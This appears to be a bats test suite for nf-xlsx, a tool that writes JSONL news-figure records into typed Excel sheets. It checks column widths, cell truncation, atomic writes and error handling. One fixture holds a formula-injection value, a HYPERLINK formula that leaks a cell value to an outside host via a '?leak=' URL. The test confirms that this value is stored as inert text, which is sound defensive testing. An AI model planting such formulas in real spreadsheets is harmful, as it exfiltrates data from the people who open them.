#!/usr/bin/env bats
# nf-xlsx: records to a workbook with typed cells, read back with openpyxl
# (tests/sheet-dump prints every cell with its type).

load common
setup() {
	common_setup
	T=$BATS_TEST_TMPDIR
}

need_openpyxl() {
	/usr/bin/python3 -c 'import openpyxl' 2>/dev/null ||
		skip "python3-openpyxl is not installed (apt-get install python3-openpyxl)"
}

dump() {
	"$ROOT/tests/sheet-dump" "$1"
}

@test "nf-xlsx: typed cells: numbers, full-day dates, and text for everything else" {
	need_openpyxl
	cat >"$T/in.jsonl" <<'IN'
{"doc":"a.txt","article":1,"title":"=HYPERLINK(\"http://x/?leak=\"&B2,\"click\")","published":"2025-05-10","para":2,"sent":1,"role":"body","lang":"zh","kind":"money","match":"10亿元","value":1000000000,"value_max":null,"unit":"CNY","unit_text":"元","per":"year","qualifier":"gt","equiv_of":null,"match_start":5,"match_end":13,"note":null,"text":"=1+1 杭州投入10亿元"}
{"doc":"a.txt","article":1,"title":"T","published":"2025-02-30","para":3,"sent":2,"kind":"percent","match":"30%","value":-3.5,"value_max":0.1,"unit":"percent","qualifier":"range","match_start":1,"match_end":4,"text":"-3.5 to 0.1"}
{"doc":"b.txt","article":1,"published":"1899-12-31","kind":"date","match":"January 20","value":"2025-01-20","from":"2025-01-20","to":"2025-01-20","anchor":"2025-05-10","text":"On January 20"}
{"doc":"b.txt","article":1,"kind":"date","match":"2025年5月","value":"2025-05","mod":"START","from":"2025-05-01","to":"2025-05-31","anchor":null,"note":"no anchor","text":"2025年5月"}
{"doc":"b.txt","article":1,"kind":"duration","match":"two years","value":"P2Y","from":null,"to":null,"anchor":"2025-05-10","text":"x"}
{"doc":"b.txt","article":1,"kind":"date","match":"Q1","value":"2025-Q1","from":"2025-01-01","to":"2025-03-31","anchor":"2025-05-10T08:00:00Z","text":"y"}
IN
	run -0 nf-xlsx -o "$T/out.xlsx" "$T/in.jsonl"
	assert_output ''
	run -0 dump "$T/out.xlsx"
	assert_output "$(cat <<'OUT'
# figures freeze=A2 filter=A1:U3
A1	s	doc
B1	s	article
C1	s	title
D1	s	published
E1	s	para
F1	s	sent
G1	s	role
H1	s	lang
I1	s	kind
J1	s	match
K1	s	value
L1	s	value_max
M1	s	unit
N1	s	unit_text
O1	s	per
P1	s	qualifier
Q1	s	equiv_of
R1	s	match_start
S1	s	match_end
T1	s	note
U1	s	text
A2	s	a.txt
B2	n	1
C2	s	=HYPERLINK("http://x/?leak="&B2,"click")
D2	d	2025-05-10
E2	n	2
F2	n	1
G2	s	body
H2	s	zh
I2	s	money
J2	s	10亿元
K2	n	1000000000
M2	s	CNY
N2	s	元
O2	s	year
P2	s	gt
R2	n	5
S2	n	13
U2	s	=1+1 杭州投入10亿元
A3	s	a.txt
B3	n	1
C3	s	T
D3	s	2025-02-30
E3	n	3
F3	n	2
I3	s	percent
J3	s	30%
K3	n	-3.5
L3	n	0.1
M3	s	percent
P3	s	range
R3	n	1
S3	n	4
U3	s	-3.5 to 0.1
# dates freeze=A2 filter=A1:S5
A1	s	doc
B1	s	article
C1	s	title
D1	s	published
E1	s	para
F1	s	sent
G1	s	role
H1	s	lang
I1	s	kind
J1	s	match
K1	s	value
L1	s	mod
M1	s	from
N1	s	to
O1	s	anchor
P1	s	match_start
Q1	s	match_end
R1	s	note
S1	s	text
A2	s	b.txt
B2	n	1
D2	s	1899-12-31
I2	s	date
J2	s	January 20
K2	s	2025-01-20
M2	d	2025-01-20
N2	d	2025-01-20
O2	d	2025-05-10
S2	s	On January 20
A3	s	b.txt
B3	n	1
I3	s	date
J3	s	2025年5月
K3	s	2025-05
L3	s	START
M3	d	2025-05-01
N3	d	2025-05-31
R3	s	no anchor
S3	s	2025年5月
A4	s	b.txt
B4	n	1
I4	s	duration
J4	s	two years
K4	s	P2Y
O4	d	2025-05-10
S4	s	x
A5	s	b.txt
B5	n	1
I5	s	date
J5	s	Q1
K5	s	2025-Q1
M5	d	2025-01-01
N5	d	2025-03-31
O5	s	2025-05-10T08:00:00Z
S5	s	y
OUT
)"
}

@test "nf-xlsx: sentence, doc and other records get their own sheets; booleans and arrays" {
	need_openpyxl
	run -0 nf-xlsx -o "$T/out.xlsx" <<'IN'
{"x":true,"y":[1,"a"],"z":{"k":null}}
{"doc":"p.txt","encoding":"GB18030","text":"杭州"}
{"doc":"p.txt","article":1,"para":1,"sent":1,"role":"title","lang":"zh","title":"杭州","published":null,"start":0,"end":6,"text":"杭州"}
{"x":false,"q":"dropped: not a column of the first such record"}
IN
	run -0 dump "$T/out.xlsx"
	assert_output "$(cat <<'OUT'
# records freeze=A2 filter=A1:C3
A1	s	x
B1	s	y
C1	s	z
A2	b	true
B2	s	[1,"a"]
C2	s	{"k":null}
A3	b	false
# docs freeze=A2 filter=A1:C2
A1	s	doc
B1	s	encoding
C1	s	text
A2	s	p.txt
B2	s	GB18030
C2	s	杭州
# sentences freeze=A2 filter=A1:K2
A1	s	doc
B1	s	article
C1	s	para
D1	s	sent
E1	s	role
F1	s	lang
G1	s	title
H1	s	published
I1	s	start
J1	s	end
K1	s	text
A2	s	p.txt
B2	n	1
C2	n	1
D2	n	1
E2	s	title
F2	s	zh
G2	s	杭州
I2	n	0
J2	n	6
K2	s	杭州
OUT
)"
}

@test "nf-xlsx: --sheets makes sheets first and even empty; no input gives the figures header" {
	need_openpyxl
	run -0 nf-xlsx --sheets date,figure -o "$T/out.xlsx" <<<'{"doc":"a","unit":"CNY","kind":"money","value":5}'
	run -0 sh -c '"$1" "$2" | grep "^#"' _ "$ROOT/tests/sheet-dump" "$T/out.xlsx"
	assert_output "$(printf '%s\n' '# dates freeze=A2 filter=A1:S1' '# figures freeze=A2 filter=A1:U2')"
	run -0 nf-xlsx -o "$T/empty.xlsx" </dev/null
	run -0 sh -c '"$1" "$2" | sed -n 1,3p' _ "$ROOT/tests/sheet-dump" "$T/empty.xlsx"
	assert_output "$(printf '%s\n' '# figures freeze=A2 filter=A1:U1' 'A1	s	doc' 'B1	s	article')"
}

@test "nf-xlsx: columns are as wide as their contents, within limits, Chinese counting double" {
	need_openpyxl
	run -0 nf-xlsx -o "$T/out.xlsx" <<'IN'
{"doc":"a.txt","kind":"money","unit":"CNY","match":"一二三四五六七八九十","value":1000000000,"text":"This sentence is much longer than sixty characters, so its column stops at sixty."}
IN
	run -0 /usr/bin/python3 -c '
import openpyxl, sys
ws = openpyxl.load_workbook(sys.argv[1])["figures"]
for col in ("A", "B", "J", "K", "U"):
    print(col, round(ws.column_dimensions[col].width))' "$T/out.xlsx"
	assert_output "$(printf '%s\n' 'A 8' 'B 12' 'J 22' 'K 15' 'U 61')"
}

@test "nf-xlsx: a text longer than a cell holds is cut at a character and reported" {
	need_openpyxl
	# 65536 characters (mawk's length() counts bytes: 3 a character)
	awk 'BEGIN { s = "杭"; while (length(s) < 150000) s = s s; printf "{\"x\":\"%s\"}\n", s }' >"$T/long.jsonl"
	run -0 --separate-stderr nf-xlsx -o "$T/out.xlsx" "$T/long.jsonl"
	[ "$stderr" = "nf-xlsx: $T/out.xlsx: 1 cell cut to 32767 characters, the most a cell holds" ]
	run -0 /usr/bin/python3 -c '
import openpyxl, sys
v = openpyxl.load_workbook(sys.argv[1])["records"]["A2"].value
print(len(v), set(v))' "$T/out.xlsx"
	assert_output "32767 {'杭'}"
}

@test "nf-xlsx: the workbook appears whole or not at all; a signal leaves the old one and no temp file" {
	need_openpyxl
	run -0 nf-xlsx -o "$T/out.xlsx" <<<'{"a":"old"}'
	cp "$T/out.xlsx" "$T/before.xlsx"
	mkfifo "$T/fifo"
	nf-xlsx -o "$T/out.xlsx" "$T/fifo" 3>&- &
	pid=$!
	exec 4>"$T/fifo"
	echo '{"a":"new"}' >&4
	# the writer's open returned, so nf-xlsx has opened the fifo: its
	# temporary file and signal handlers are in place
	ls -A "$T" | grep -q '^\.out\.xlsx\.' || fail "no temporary file while writing"
	kill -TERM "$pid"
	exec 4>&-
	wait "$pid" || true
	cmp "$T/out.xlsx" "$T/before.xlsx"
	run -0 ls -A "$T"
	assert_output "$(printf '%s\n' before.xlsx fifo out.xlsx)"
}

@test "nf-xlsx: an unwritable folder fails at once and writes nothing" {
	run -1 --separate-stderr nf-xlsx -o "$T/no/such/dir/out.xlsx" </dev/null
	[ "$stderr" = "nf-xlsx: $T/no/such/dir/out.xlsx: No such file or directory" ]
}

@test "nf-xlsx: a malformed line stops with FILE:LINE, the rows before it are kept" {
	need_openpyxl
	printf '{"a":1}\n{"a":2,}\n{"a":3}\n' >"$T/bad.jsonl"
	run -1 --separate-stderr nf-xlsx -o "$T/out.xlsx" "$T/bad.jsonl"
	[ "$stderr" = "nf-xlsx: $T/bad.jsonl:2: invalid JSON: string or '}' expected near '}'" ]
	run -0 dump "$T/out.xlsx"
	assert_output "$(printf '%s\n' '# records freeze=A2 filter=A1:A2' 'A1	s	a' 'A2	n	1')"
	run -1 --separate-stderr nf-xlsx --skip-bad -o "$T/out.xlsx" "$T/bad.jsonl" "$T/missing"
	[ "$stderr" = "$(printf '%s\n' "nf-xlsx: $T/missing: No such file or directory" 'nf-xlsx: skipped 1 bad line')" ]
	run -0 dump "$T/out.xlsx"
	assert_output "$(printf '%s\n' '# records freeze=A2 filter=A1:A3' 'A1	s	a' 'A2	n	1' 'A3	n	3')"
}

@test "nf-xlsx: --help, --version, bad usage" {
	run -0 nf-xlsx --help
	assert_line --index 0 "usage: nf-xlsx -o FILE [--sheets TYPE,...] [--skip-bad] [INPUT ...]"
	run -0 nf-xlsx --version
	assert_output "nf-xlsx (newsfacts) 0.1.0"
	run -2 --separate-stderr nf-xlsx </dev/null
	[ "$stderr" = "$(printf "nf-xlsx: -o FILE names the workbook to write\nTry 'nf-xlsx --help' for more information.")" ]
	mkdir "$T/o"
	run -2 --separate-stderr nf-xlsx -o "$T/o/x.xlsx" --sheets figure,nope </dev/null
	[ "$stderr" = "$(printf "nf-xlsx: --sheets wants figure, date, sentence or doc, not 'figure,nope'\nTry 'nf-xlsx --help' for more information.")" ]
	run -0 ls -A "$T/o"
	assert_output ''
}
